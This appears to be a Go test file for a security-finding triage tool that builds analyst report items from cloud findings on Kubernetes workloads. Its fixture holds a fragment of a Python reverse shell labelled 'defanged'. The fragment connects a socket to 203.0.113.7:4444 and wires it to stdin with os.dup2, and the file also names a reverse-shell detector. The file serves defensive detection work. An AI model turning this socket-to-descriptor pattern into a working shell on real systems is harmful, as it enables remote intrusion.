package report

import (
	"crypto/sha256"
	"encoding/hex"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/pytriage/pytriage/finding"
	"github.com/pytriage/pytriage/finding/triage"
	"github.com/pytriage/pytriage/model"
)

// A defanged script whose lines end in LF, a lone CR and CRLF: CPython
// counts 5 lines.
const itemScript = "import os, socket\n" +
	"s = socket.create_connection((\"203.0.113.7\", 4444))\r" +
	"os.dup2(s.fileno(), 0)\r\n" +
	"print(\"defanged: constant payload\")\n" +
	"# end\n"

func sha(s string) string {
	h := sha256.Sum256([]byte(s))
	return hex.EncodeToString(h[:])
}

func gkeRecord(name string, at time.Time, script string) *finding.Record {
	res := "//container.googleapis.com/projects/acme-data-dev/locations/us-east1/clusters/data-gke"
	p := finding.Process{Name: "python3", Binary: &finding.File{Path: "/usr/bin/python3.11"}, Args: []string{"python3", "/var/tmp/rs.py"}}
	if script != "" {
		p.Script = &finding.File{Path: "/var/tmp/rs.py", Size: int64(len(script)), HashedSize: int64(len(script)), SHA256: sha(script), Contents: script}
	}
	return &finding.Record{
		Finding: finding.Finding{
			Name: name, ResourceName: res, Category: "Execution: Malicious Python executed", State: "ACTIVE", Severity: "CRITICAL",
			EventTime: at, Processes: []finding.Process{p},
			Kubernetes: finding.Kubernetes{Pods: []finding.Pod{{Namespace: "ingest", Name: "kafka-connect-0",
				Containers: []finding.Container{{Name: "connect", URI: "us-east1-docker.pkg.dev/acme/ingest/connect:7.6", ImageID: "sha256:" + strings.Repeat("6d", 32)}}}}},
			MitreAttack: finding.MitreAttack{PrimaryTactic: "EXECUTION", PrimaryTechniques: []string{"PYTHON"}},
		},
		Resource: finding.Resource{Name: res, Type: "google.container.Cluster", ProjectDisplayName: "acme-data-dev"},
		Origin:   finding.Origin{File: "export.json", Index: 2, Line: 40, Col: 5},
	}
}

func TestItemFor(t *testing.T) {
	r := gkeRecord("organizations/1/sources/2/findings/aaa", t0, itemScript)
	other := gkeRecord("organizations/1/sources/2/findings/bbb", t0.Add(3*time.Minute), "")
	other.Finding.Category = "Execution: Container Escape"
	rep := &model.Report{
		Score: 0.91, Verdict: model.VerdictMalicious, ModelVersion: "m1",
		Hits: []model.Hit{
			{Detector: "reverse-shell", Techniques: []string{"T1059.004"}, Severity: model.SeverityCritical, Lines: []int{3, 2}, Message: "socket wired to fd 0"},
			{Detector: "network-access", Severity: model.SeverityInfo, Lines: []int{2, 99}, Message: "network"},
		},
		Layers: []model.Layer{{Line: 2, Depth: 1, Encoding: []string{"base64"}, Text: strings.Repeat("é", MaxLayerBytes), Python: false}},
	}
	history := []triage.Decision{
		{ID: 1, Finding: r.Finding.Name, Verdict: triage.Escalate, Analyst: "alice", Note: "ask bob", Time: t0.Add(time.Hour)},
		{ID: 2, Finding: r.Finding.Name, Verdict: triage.Malicious, Analyst: "bob", Time: t0.Add(2 * time.Hour), Score: 0.91, HasScore: true, ModelVersion: "m1", Undoes: 0},
	}
	it := ItemFor(r, rep, history, []*finding.Record{other})

	checks := []struct{ name, got, want string }{
		{"name", it.Name, "organizations/1/sources/2/findings/aaa"},
		{"short", it.Resource.Short, "data-gke/kafka-connect-0"},
		{"pod", it.Resource.Pod, "kafka-connect-0"},
		{"namespace", it.Resource.Namespace, "ingest"},
		{"container", it.Resource.Container, "connect"},
		{"image", it.Resource.Image, "us-east1-docker.pkg.dev/acme/ingest/connect:7.6"},
		{"digest", it.Resource.Digest, "sha256:" + strings.Repeat("6d", 32)},
		{"project", it.Resource.Project, "acme-data-dev"},
		{"script", it.Script.Path, "/var/tmp/rs.py"},
		{"integrity", it.Script.Integrity, "verified"},
		{"virustotal", it.Script.VirusTotal, "https://www.virustotal.com/gui/file/" + sha(itemScript)},
		{"verdict", it.Verdict, "malicious"},
		{"source", it.Source, "export.json: record 2: 40:5"},
		{"mitre", it.Mitre[1].URL, "https://attack.mitre.org/techniques/T1059/006/"},
		{"related", it.Related[0].Name + " " + it.Related[0].Category, "organizations/1/sources/2/findings/bbb Execution: Container Escape"},
	}
	for _, c := range checks {
		if c.got != c.want {
			t.Errorf("%s = %q, want %q", c.name, c.got, c.want)
		}
	}
	// Flagged lines: sorted, once each, by CPython's line rules (line 3
	// follows a lone CR), out-of-range line 99 dropped.
	want := []Line{{2, `s = socket.create_connection(("203.0.113.7", 4444))`}, {3, "os.dup2(s.fileno(), 0)"}}
	c := it.Classifier
	if len(c.Flagged) != len(want) {
		t.Fatalf("flagged %+v, want %+v", c.Flagged, want)
	}
	for i := range want {
		if c.Flagged[i] != want[i] {
			t.Errorf("flagged[%d] = %+v, want %+v", i, c.Flagged[i], want[i])
		}
	}
	if l := c.Layers[0]; !l.Cut || len(l.Text) > MaxLayerBytes || !utf8.ValidString(l.Text) {
		t.Errorf("layer not cut cleanly: cut %v, %d bytes, valid %v", l.Cut, len(l.Text), utf8.ValidString(l.Text))
	}
	if len(it.Decisions) != 2 || it.Decisions[0].Score != nil || it.Decisions[1].Score == nil || *it.Decisions[1].Score != 0.91 {
		t.Errorf("decisions %+v", it.Decisions)
	}
	if len(it.NextSteps) == 0 || !strings.Contains(it.NextSteps[1].Command, "kubectl describe pod kafka-connect-0 --namespace=ingest") {
		t.Errorf("next steps %+v", it.NextSteps)
	}
}

func TestItemForLiteralAndNothing(t *testing.T) {
	r := gkeRecord("organizations/1/sources/2/findings/lit", t0, "")
	r.Finding.Processes[0].Args = []string{"python3", "-c", "print('defanged')"}
	it := ItemFor(r, nil, nil, nil)
	if it.Script == nil || !it.Script.Literal || it.Script.Path != "" || it.Script.Integrity != "no hash" {
		t.Errorf("literal script: %+v", it.Script)
	}
	if it.Classifier != nil || it.Verdict != "" || it.Decisions != nil || it.Related != nil {
		t.Errorf("unexpected evidence: %+v", it)
	}
	if got := ItemFor(nil, nil, nil, nil); got.Name != "" {
		t.Errorf("nil record gave %+v", got)
	}
}

// With the real classifier, every quoted line is the script's own text.
func TestItemForQuotesClassifierLines(t *testing.T) {
	r := gkeRecord("organizations/1/sources/2/findings/real", t0, itemScript)
	rep := model.Analyze([]byte(itemScript))
	it := ItemFor(r, rep, nil, nil)
	lines := strings.FieldsFunc(itemScript, func(c rune) bool { return c == '\n' || c == '\r' })
	for _, l := range it.Classifier.Flagged {
		if l.N < 1 || l.N > len(lines) || lines[l.N-1] != l.Text {
			t.Errorf("line %d quoted as %q", l.N, l.Text)
		}
	}
	if len(rep.Hits) > 0 && len(it.Classifier.Flagged) == 0 {
		t.Errorf("hits %+v but no line quoted", rep.Hits)
	}
}

func TestQuoteLinesCap(t *testing.T) {
	src := strings.Repeat("x = 1\n", MaxFlaggedLines+10) + strings.Repeat("y", 2*MaxLineRunes) + "\n"
	var nums []int
	for i := 1; i <= MaxFlaggedLines+11; i++ {
		nums = append(nums, i)
	}
	got := quoteLines(src, nums)
	if len(got) != MaxFlaggedLines {
		t.Errorf("%d lines quoted, want %d", len(got), MaxFlaggedLines)
	}
	long := quoteLines(src, []int{MaxFlaggedLines + 11})
	if len(long) != 1 || !strings.HasSuffix(long[0].Text, "…(+400 bytes)") {
		t.Errorf("long line not cut with a marker: %+v", long)
	}
}

func TestItemForCapsArguments(t *testing.T) {
	r := gkeRecord("organizations/1/sources/2/findings/args", t0, itemScript)
	for i := 0; i < MaxArgs+5; i++ {
		r.Finding.Processes[0].Args = append(r.Finding.Processes[0].Args, "-v")
	}
	args := ItemFor(r, nil, nil, nil).Script.Args
	if len(args) != MaxArgs+1 || args[MaxArgs] != "…(+7 more arguments)" {
		t.Errorf("%d args, last %q", len(args), args[len(args)-1])
	}
}
